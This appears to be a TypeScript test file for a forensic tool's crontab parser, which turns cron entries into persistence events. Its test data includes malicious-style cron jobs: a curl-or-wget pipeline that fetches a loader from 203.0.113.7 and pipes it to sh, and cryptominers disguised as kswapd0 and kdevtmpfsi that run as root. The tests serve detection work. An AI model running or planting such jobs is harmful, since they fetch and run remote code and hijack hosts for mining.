import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cutCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
import { crontab, parseCronLine } from './crontab.js';

const MTIME = Date.UTC(2024, 0, 1);
const FIXTURES = 'test/fixtures/crontab';
const good = fileInput(`${FIXTURES}/etc/crontab`, { relPath: 'etc/crontab', mtimeMs: MTIME, hostHint: 'web-01' });
const bad = fileInput(`${FIXTURES}/etc/cron.d/backup`, {
  relPath: 'etc/cron.d/backup',
  mtimeMs: MTIME,
  hostHint: 'web-01',
});

runSourceContract({
  source: crontab,
  good,
  bad,
  // the file copied while a job was written: it ends inside the quoted script
  cut: cutCase(good, '*/5 * * * * root /bin/sh -c "curl -s http://203.0.113.7/cutmin', 'cutmin'),
  skip: {
    oversized:
      'the contract builds its input without mtimeMs, and a state source without a time reads nothing (FILE_NO_MTIME); rerun below with a time',
  },
});

// The contract's memory inputs carry no mtime; these rerun its bad-input cases with one, so the parser is reached.
const withTime = { relPath: 'etc/crontab', mtimeMs: MTIME };

test('crontab: an oversized line is reported and the next good line is read (with an mtime)', async () => {
  const big = `${'A'.repeat(TEST_CONTEXT.maxLineBytes * 3)}\n${good.head.toString('utf8')}`;
  const { events, issues } = await readAll(crontab, memoryInput('big.log', big, withTime));
  assert.ok(issues.some((i) => i.line === 1 && i.code === 'LINE_TOO_LONG'));
  assert.equal(events.length, 5);
});

test('crontab: binary garbage is reported by line, a few at a time, never thrown (with an mtime)', async () => {
  let seed = 7;
  const garbage = Buffer.alloc(100_000);
  for (let i = 0; i < garbage.length; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    garbage[i] = seed >>> 16; // the high bits: the low byte of this generator repeats every 256
  }
  const { issues } = await readAll(crontab, memoryInput('garbage.bin', garbage, withTime));
  const binary = issues.filter((i) => i.code === 'CRON_BINARY');
  assert.ok(binary.length > 0 && binary.length <= 6, `binary issues: ${binary.length}`);
  assert.ok(issues.every((i) => i.line !== undefined));
});

test('crontab: a file cut mid-line reads the cut line as far as it goes (with an mtime)', async () => {
  const cut = good.head.subarray(0, good.head.indexOf('kswapd0'));
  const { events, issues } = await readAll(crontab, memoryInput('cut.log', cut, withTime));
  assert.deepEqual(issues, []);
  assert.equal(events.length, 5);
  assert.equal(events[4].process?.command_line, '/var/tmp/.systemd-private/');
});

test('crontab: a file without an mtime is reported once and not read', async () => {
  const { events, issues } = await readAll(crontab, memoryInput('crontab', good.head, { relPath: 'etc/crontab' }));
  assert.deepEqual(events, []);
  assert.deepEqual(
    issues.map((i) => i.code),
    ['FILE_NO_MTIME'],
  );
});

test('reads a system crontab line as schedule, user and command', async () => {
  const { events } = await readAll(crontab, good);
  const miner = events.at(-1);
  assert.ok(miner);
  assert.equal(miner['@timestamp'], '2024-01-01T00:00:00.000Z');
  assert.deepEqual(miner.event, {
    kind: 'state',
    category: ['configuration'],
    action: 'persistence-entry',
    dataset: 'crontab.entry',
  });
  assert.deepEqual(miner.host, { name: 'web-01', os: { platform: 'linux' } });
  assert.deepEqual(miner.original, {
    schedule: '*/10 * * * *',
    user: 'root',
    command: '/var/tmp/.systemd-private/kswapd0 -c /var/tmp/.systemd-private/config.json >/dev/null 2>&1',
  });
  assert.equal(miner.process?.user?.name, 'root');
  assert.equal(miner.process?.command_line, miner.original.command);
  assert.deepEqual(miner.file, {
    path: '/etc/crontab',
    name: 'crontab',
    mtime: '2024-01-01T00:00:00.000Z',
    line: '*/10 * * * * root /var/tmp/.systemd-private/kswapd0 -c /var/tmp/.systemd-private/config.json >/dev/null 2>&1',
  });
  assert.deepEqual(miner.coalmine.persistence, { mechanism: 'cron', target: '/var/tmp/.systemd-private/kswapd0' });
  assert.deepEqual(miner.coalmine.ref, { file: good.name, line: 13 });
});

test('skips SHELL=, PATH=, comments and blank lines in a crontab', async () => {
  const { events } = await readAll(crontab, good);
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    [9, 10, 11, 12, 13],
  );
});

test('reads a Debian spool crontab without a user field and names the user after the file', async () => {
  const input = fileInput(`${FIXTURES}/var/spool/cron/crontabs/root`, {
    relPath: 'var/spool/cron/crontabs/root',
    mtimeMs: MTIME,
  });
  const { events, issues } = await readAll(crontab, input);
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => e.original),
    [
      { schedule: '@reboot', command: '/root/.cache/.x/run.sh >/dev/null 2>&1' },
      {
        schedule: '*/3 * * * *',
        command: '(curl -fsSL http://203.0.113.7/ldr.sh || wget -q -O- http://203.0.113.7/ldr.sh) | sh',
      },
      { schedule: '0 4 * * sun', command: '/usr/bin/certbot renew --quiet' },
    ],
  );
  assert.ok(events.every((e) => e.process?.user?.name === 'root'));
  assert.equal(events[0].coalmine.persistence?.target, '/root/.cache/.x/run.sh');
  assert.deepEqual(events[1].coalmine.persistence, { mechanism: 'cron' }, 'a download pipeline has no local target');
  assert.deepEqual(events[0].host, { os: { platform: 'linux' } }, 'no host hint, no host.name');
});

test("reads a RHEL spool crontab named after its user, under UAC's [root] folder", async () => {
  const input = memoryInput('x', '*/5 * * * * /home/www/.x/upd >/dev/null 2>&1\n', {
    relPath: '[root]/var/spool/cron/www-data',
    mtimeMs: MTIME,
  });
  const { events } = await readAll(crontab, input);
  assert.equal(events[0].process?.user?.name, 'www-data');
  assert.equal(events[0].file?.path, '/var/spool/cron/www-data');
});

test('reads @reboot and the other specials with a user in a system crontab', () => {
  assert.deepEqual(parseCronLine('@reboot root /opt/.x/start', 'system'), {
    type: 'job',
    schedule: '@reboot',
    user: 'root',
    command: '/opt/.x/start',
  });
  assert.deepEqual(parseCronLine('@Daily nobody /usr/bin/true', 'system'), {
    type: 'job',
    schedule: '@daily',
    user: 'nobody',
    command: '/usr/bin/true',
  });
});

test('accepts ranges, steps, lists and month or day names in schedules', () => {
  for (const schedule of ['0-59/15 */2 1,15 jan-jun mon-fri', '5 4 * Dec SUN', '0 0 31 12 7'])
    assert.equal(parseCronLine(`${schedule} /bin/x`, 'user').type, 'job', schedule);
});

test('reports each bad line with its number and reads on', async () => {
  const { events, issues } = await readAll(crontab, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [5, 'CRON_BAD_LINE'],
      [6, 'CRON_BAD_LINE'],
      [7, 'CRON_BAD_LINE'],
      [8, 'CRON_BAD_LINE'],
    ],
  );
  assert.match(issues[1].reason, /not a user name/);
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    [4, 9],
  );
});

test('rejects a schedule with too few fields, a step of zero or a word', () => {
  assert.equal(parseCronLine('* * * /bin/x', 'user').type, 'bad');
  assert.equal(parseCronLine('*/0 * * * * /bin/x', 'user').type, 'bad');
  assert.equal(parseCronLine('every minute do /bin/x', 'user').type, 'bad');
  assert.equal(parseCronLine('* * * * *', 'user').type, 'bad', 'no command');
});

test('treats each command of a cron.daily script as a daily root job', async () => {
  const input = fileInput(`${FIXTURES}/etc/cron.daily/logrotate`, {
    relPath: 'etc/cron.daily/logrotate',
    mtimeMs: MTIME,
  });
  const { events, issues } = await readAll(crontab, input);
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [
      e.coalmine.ref.line,
      e.original.schedule,
      e.process?.user?.name,
      e.coalmine.persistence?.target,
    ]),
    [
      [13, '@daily', 'root', '/usr/sbin/logrotate'],
      [16, '@daily', 'root', '/usr/bin/logger'],
    ],
  );
});

test('sniffs cron locations by path, inside a collection and as a given file', () => {
  const score = (input: { name: string; relPath?: string }) => crontab.sniff('', input);
  assert.ok(score({ name: 'x', relPath: 'etc/cron.d/php' }) > 0);
  assert.ok(score({ name: 'x', relPath: '[root]/var/spool/cron/crontabs/alice' }) > 0, 'UAC layout');
  assert.ok(score({ name: 'x', relPath: 'etc/cron.weekly/man-db' }) > 0);
  assert.ok(score({ name: '/cases/17/etc/crontab' }) > 0);
  assert.equal(score({ name: 'x', relPath: 'etc/cron.deny' }), 0);
  assert.equal(score({ name: 'x', relPath: 'var/spool/cron/atjobs/a0001' }), 0);
});

test('sniffs a given file by content only below a path match, and never inside a collection', () => {
  const text = '# m h dom mon dow command\nMAILTO=""\n*/5 * * * * /tmp/.x/run\n@reboot /tmp/.x/run\n';
  const byContent = crontab.sniff(text, { name: 'suspect.txt' });
  assert.ok(byContent > 0);
  assert.ok(byContent < crontab.sniff(text, { name: 'etc/crontab' }));
  assert.equal(crontab.sniff(text, { name: 'x', relPath: 'tmp/suspect.txt' }), 0);
  assert.equal(crontab.sniff('2024-01-01 12:00:00 starting\nhello\n', { name: 'app.log' }), 0);
});

test('reads a content-sniffed file in user format', async () => {
  const input = memoryInput('suspect.txt', '*/5 * * * * /tmp/.x/run\n', { mtimeMs: MTIME });
  const { events } = await readAll(crontab, input);
  assert.deepEqual(events[0].original, { schedule: '*/5 * * * *', command: '/tmp/.x/run' });
  assert.equal(events[0].file?.path, 'suspect.txt');
});

test('crontab: a job whose command leaves a quote or substitution open is reported and not read, anywhere in the file', async () => {
  const whole = '* * * * * root /usr/bin/true\n';
  for (const [job, line] of [
    ["* * * * * root /tmp/.x/run --pool 'pool.example:3333", 2],
    ['* * * * * root /bin/sh -c "$(curl -s http://203.0.113.7/x', 2],
    ['@reboot root /tmp/.x/run "--donate', 2],
  ] as const) {
    for (const text of [`${whole}${job}\n${whole}`, `${whole}${job}`]) {
      const { events, issues } = await readAll(crontab, memoryInput('crontab', text, withTime));
      assert.deepEqual(
        issues.map((i) => [i.line, i.code]),
        [[line, 'CRON_UNTERMINATED']],
        text,
      );
      assert.ok(
        !events.some((e) => JSON.stringify(e).includes('/tmp/.x/run') || JSON.stringify(e).includes('203.0.113.7')),
        text,
      );
      assert.ok(events.length > 0, text);
    }
  }
  // quotes closed (and a last line without a newline) are whole
  const { events, issues } = await readAll(
    crontab,
    memoryInput('crontab', `${whole}* * * * * root /bin/sh -c 'echo "a b"' $(printf x)`, withTime),
  );
  assert.deepEqual(issues, []);
  assert.equal(events.length, 2);
});

// A live system's places given as arguments: `hunt /var/spool/cron` walks it with relPath `crontabs/redis`
// (no collection root), and its localPath is where it is.
test('recognises cron files by their absolute local path: a live spool, cron.d or crontab given as an argument', () => {
  const score = (input: { name: string; relPath?: string; localPath?: string }) => crontab.sniff('', input);
  const local = (localPath: string, relPath?: string) => score({ name: 'x', relPath, localPath });
  assert.equal(score({ name: 'x', relPath: 'crontabs/redis' }), 0, 'the relative path alone says nothing');
  assert.ok(local('/var/spool/cron/crontabs/redis', 'crontabs/redis') > 0);
  assert.ok(local('/var/spool/cron/root', 'root') > 0, 'RHEL');
  assert.ok(local('/etc/cron.d/php', 'php') > 0);
  assert.ok(local('/etc/cron.d/php', 'cron.d/php') > 0, '/etc given');
  assert.ok(local('/etc/crontab') > 0, 'a single file');
  assert.ok(local('/cases/17/var/spool/cron/crontabs/redis', 'crontabs/redis') > 0, "a collection's subdirectory");
});

test('a cron-named file further down a walked directory is not a cron file, whatever its absolute path', () => {
  const local = (localPath: string, relPath: string) => crontab.sniff('', { name: 'x', relPath, localPath });
  assert.equal(local('/home/alice/notes/crontab', 'notes/crontab'), 0);
  assert.equal(local('/cases/17/srv/backup/etc/crontab', 'srv/backup/etc/crontab'), 0, 'not installed there');
  assert.equal(local('/srv/etc/cron.d/x', 'etc/cron.d/x'), crontab.sniff('', { name: 'x', relPath: 'etc/cron.d/x' }));
});

test('reads a live spool file as its user, at the path its host knows it by', async () => {
  const job = '*/5 * * * * /tmp/kdevtmpfsi -o pool.example:3333\n';
  for (const localPath of ['/var/spool/cron/crontabs/redis', '/cases/17/var/spool/cron/crontabs/redis']) {
    const input = memoryInput('spool/crontabs/redis', job, { relPath: 'crontabs/redis', localPath, mtimeMs: MTIME });
    const { events, issues } = await readAll(crontab, input);
    assert.deepEqual(issues, []);
    assert.equal(events.length, 1);
    assert.equal(events[0].process?.user?.name, 'redis');
    assert.equal(events[0].file?.path, '/var/spool/cron/crontabs/redis');
    assert.equal(events[0].coalmine.ref.file, 'spool/crontabs/redis');
  }
});

test('a system file named by its absolute path alone is read in system format, not as `crontab -l` output', async () => {
  const input = memoryInput('php', '09,39 * * * * root /usr/lib/php/sessionclean\n', {
    localPath: '/etc/cron.d/php',
    mtimeMs: MTIME,
  });
  const { events } = await readAll(crontab, input);
  assert.equal(events[0].process?.user?.name, 'root');
  assert.equal(events[0].process?.command_line, '/usr/lib/php/sessionclean');
  assert.equal(events[0].file?.path, '/etc/cron.d/php');
});

test('a collection keeps its own paths when its absolute path would match too', async () => {
  const input = memoryInput('/etc/crontab', '* * * * * root /bin/true\n', {
    relPath: 'etc/crontab',
    localPath: '/etc/crontab',
    mtimeMs: MTIME,
  });
  const { events } = await readAll(crontab, input);
  assert.equal(events[0].file?.path, '/etc/crontab');
});
